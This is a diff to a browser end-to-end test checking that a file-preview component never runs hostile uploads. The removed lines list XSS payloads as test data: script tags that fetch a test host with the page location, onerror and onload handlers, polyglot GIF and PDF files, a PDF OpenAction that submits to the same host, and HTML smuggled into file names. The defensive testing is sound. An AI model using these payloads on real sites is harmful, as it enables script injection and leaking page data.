@@ -13,7 +13,7 @@ import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } fr
 import { startLocalServer } from '../../e2e/local/local-server.ts'
 import { Caller } from '../../e2e/support/caller.ts'
 import { localToken, type Server } from '../../e2e/support/target.ts'
-import { hostileSvgs } from '../../support/files/svg.ts'
+import { hostileFiles, hostileScript } from '../../support/files/hostile.ts'
 import { skipWithoutProgram } from '../../support/programs.ts'
 import { chromiumOptions } from '../chromium.ts'
 import { startElementServer, type ElementServer } from './element-server.ts'
@@ -85,33 +85,16 @@ describe.skipIf(skipWithoutProgram('chromium'))('<coffer-file> over a real servi
     run(`harness.add('image', ${JSON.stringify({ src, ...attributes })})`)
   const reaches = (state: string) => page.locator(`coffer-file:state(${state})`).first().waitFor()
 
-  const script = () =>
-    `<script>globalThis.pwned = true; alert('pwned'); fetch('${strange}/?from=' + location)</script>`
-  const corpus = (): Record<string, string | Buffer> => ({
-    'page.html': `<!doctype html>${script()}<img src=x onerror="alert(1)">`,
-    'page.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml">${script()}</html>`,
-    'page.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script()}<image href="${strange}/a.png"/></svg>`,
-    'page.xml': `<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml">${script()}</x>`,
-    'named.pdf': `<!doctype html>${script()}`,
-    'named.png': `<!doctype html>${script()}`,
-    'polyglot.gif': `GIF89a/*${script()}*/=1;alert('pwned')`,
-    'polyglot.pdf': `%PDF-1.4\n${script()}`,
-    'action.pdf': `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(this.submitForm\\('${strange}'\\);app.launchURL\\('${strange}'\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>`,
-    'script.js': `alert('pwned')`,
-    '<img src=x onerror=alert(1)>.txt': script(),
-    '"><script>alert(1)<\u2215script>.md': `![x](javascript:alert(1)) ${script()}`,
-    ...hostileSvgs,
-  })
-
   test('hostile files never run, in any shape or in the tab that opens them', async () => {
     await signIn()
     const sources: string[] = []
-    for (const [name, bytes] of Object.entries(corpus())) {
+    for (const [name, bytes] of Object.entries(hostileFiles(strange))) {
       const stored = await user.store(`/corpus/${name}`, new Uint8Array(Buffer.from(bytes)))
       sources.push(`workspace://${stored.id}#${stored.mimeType}`)
     }
     for (const src of sources)
-      for (const shape of ['fill', 'chip']) await show(src, { shape, seen: 'no', label: script() })
+      for (const shape of ['fill', 'chip'])
+        await show(src, { shape, seen: 'no', label: hostileScript(strange) })
     const count = sources.length * 2
     await expect
       .poll(() => page.locator('coffer-file:is(:state(image), :state(document))').count(), {
